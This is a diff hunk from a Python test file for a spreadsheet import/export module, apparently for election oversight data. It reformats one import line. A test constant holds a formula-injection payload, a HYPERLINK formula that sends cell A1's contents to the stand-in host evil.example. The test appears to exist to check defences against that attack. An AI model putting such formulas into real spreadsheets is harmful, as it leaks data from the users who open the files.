@@ -18,7 +18,7 @@ from data_access.importer import blank_template, export_workbook, import_file, p
 from data_access.importer.spec import Problem
 from data_access.spreadsheet import csv_bytes, xlsx_bytes
 from tests.apptest_utils import run_app, sqlite_url
-from tests.fixtures_import import (KEGIATAN_HEADER, PELANGGARAN_HEADER, PENGAWASAN_HEADER, elections)
+from tests.fixtures_import import KEGIATAN_HEADER, PELANGGARAN_HEADER, PENGAWASAN_HEADER, elections
 from tests.fixtures_import import csv_bytes as import_csv
 
 KODE = '=HYPERLINK("https://evil.example/?d="&A1,"Klik di sini")'
